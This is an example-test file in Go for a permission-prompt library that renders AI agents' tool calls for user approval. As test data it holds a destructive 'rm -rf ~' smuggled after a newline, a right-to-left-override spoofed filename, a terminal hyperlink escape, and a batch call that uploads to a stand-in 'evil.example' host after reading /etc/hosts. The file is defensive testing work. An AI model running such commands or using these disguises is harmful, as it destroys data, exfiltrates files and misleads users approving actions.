package runtime_test

import (
	"fmt"
	"log"
	"strings"

	"github.com/permgen/permgen/runtime"
	"github.com/permgen/permgen/runtime/textfmt"
	"github.com/permgen/permgen/runtime/value"
)

func ExampleRegistry_Register() {
	reg := runtime.NewRegistry()
	deploy := runtime.FormatterFunc(func(req runtime.Request) (string, bool, error) {
		target, ok := textfmt.NonEmptyString(mustGet(req.Input, "target"))
		if !ok {
			return "", false, nil // decline: the default preview is used
		}
		return "to " + target, true, nil
	})
	dispose, err := reg.Register("deploy", "host-app", deploy)
	if err != nil {
		panic(err)
	}
	defer dispose()

	_, err = reg.Register("deploy", "plugin", deploy)
	fmt.Println(err)

	d, _ := runtime.NewDispatcher(reg, runtime.Options{})
	fmt.Println(d.Prompt(runtime.Call{Tool: "deploy", Input: `{"target":"production"}`}))
	fmt.Println(d.Prompt(runtime.Call{Tool: "deploy", Input: `{"env":"staging"}`}))
	// Output:
	// tool "deploy" (plugin) is already registered by host-app
	// Current agent requested tool 'deploy' to production. Allow this call?
	// Current agent requested tool 'deploy' with input {"env":"staging"}. Allow this call?
}

func ExampleDispatcher_Describe() {
	d, _ := runtime.NewDispatcher(runtime.NewRegistry(), runtime.Options{})
	desc := d.Describe(runtime.Call{
		Tool:    "bash",
		Agent:   "reviewer",
		Command: "git status\nrm -rf ~",
		Origin:  "project",
	})
	fmt.Println(desc.Prompt)
	fmt.Println(*desc.Log.Command)
	// Output:
	// Agent 'reviewer' requested bash command 'git status\nrm -rf ~'. Allow this command?
	// git status rm -rf ~
}

func ExampleSafeText() {
	path := "/tmp/\u202Egnp.exe"
	fmt.Println(runtime.SafeText(path, runtime.Reveal, 200))
	fmt.Println(runtime.SafeText("\x1b]8;;https://evil.example\x07click\x1b]8;;\x07", runtime.Strip, 200))
	// Output:
	// /tmp/\u{202E}gnp.exe
	// click
}

func mustGet(o *value.Object, key string) any {
	v, _ := o.Get(key)
	return v
}

// batch is a wrapper tool: its calls are in "calls", each a tool name and
// its arguments. It implements runtime.Unwrapper.
type batch struct{}

func (batch) Format(runtime.Request) (string, bool, error) { return "", false, nil }

func (batch) Unwrap(req runtime.Request) ([]runtime.InnerCall, error) {
	list, _ := mustGet(req.Input, "calls").([]any)
	var calls []runtime.InnerCall
	for _, item := range list {
		call, ok := item.(*value.Object)
		if !ok {
			continue
		}
		tool, _ := mustGet(call, "tool").(string)
		calls = append(calls, runtime.InnerCall{Tool: tool, Input: mustGet(call, "args")})
	}
	return calls, nil
}

// readOnly declares the read tier.
type readOnly struct{ runtime.FormatterFunc }

func (readOnly) Tier(runtime.Request) (runtime.Tier, error) { return runtime.TierRead, nil }

func ExampleUnwrapper() {
	reg := runtime.NewRegistry()
	reg.Register("batch", "host-app", batch{})
	reg.Register("read", "host-app", readOnly{func(req runtime.Request) (string, bool, error) {
		path, _ := mustGet(req.Input, "path").(string)
		return "for path '" + path + "'", true, nil
	}})
	d, _ := runtime.NewDispatcher(reg, runtime.Options{ShowTier: true})
	desc := d.Describe(runtime.Call{Tool: "batch", Input: `{"calls": [
		{"tool": "read", "args": {"path": "/etc/hosts"}},
		{"tool": "upload", "args": {"to": "https://evil.example"}}]}`})
	fmt.Println(desc.Prompt)
	fmt.Println(desc.Calls[0].Label, desc.Calls[0].Tier)
	// Output:
	// Current agent requested tool 'batch' → 2 calls: #1 tool 'read' for path '/etc/hosts'; #2 tool 'upload' with input {"to":"https://evil.example"} [tier unknown]. Allow this call?
	// tool 'read' read
}

// A host's formatter in a layer is consulted before the stock catalog's,
// and its decline falls through to the stock formatter, as
// pi-permission-system's precedence has it.
func ExampleRegistry_Layer() {
	stockRead := runtime.FormatterFunc(func(req runtime.Request) (string, bool, error) {
		path, _ := textfmt.NonEmptyString(mustGet(req.Input, "path"))
		return "for path '" + path + "'", true, nil
	})
	reg := runtime.NewRegistry()
	if _, err := reg.Register("read", "formatters.yaml#read", stockRead); err != nil { // the stock catalog
		log.Fatal(err)
	}
	host := reg.Layer("host") // consulted before reg
	if _, err := host.Register("read", "host-app", runtime.FormatterFunc(
		func(req runtime.Request) (string, bool, error) {
			v, _ := req.Input.Get("path")
			if path, ok := textfmt.NonEmptyString(v); ok && strings.HasPrefix(path, "/srv/") {
				return "a deployed file, " + path, true, nil
			}
			return "", false, nil // declines: the stock read answers
		})); err != nil {
		log.Fatal(err)
	}

	d, _ := runtime.NewDispatcher(reg, runtime.Options{})
	for _, in := range []string{`{"path":"/srv/app.conf"}`, `{"path":"/etc/passwd"}`} {
		p := d.Preview(runtime.Call{Tool: "read", Input: in})
		fmt.Printf("%s (%s)\n", p.Text, p.Formatter)
	}
	// Output:
	// a deployed file, /srv/app.conf (host-app)
	// for path '/etc/passwd' (formatters.yaml#read)
}
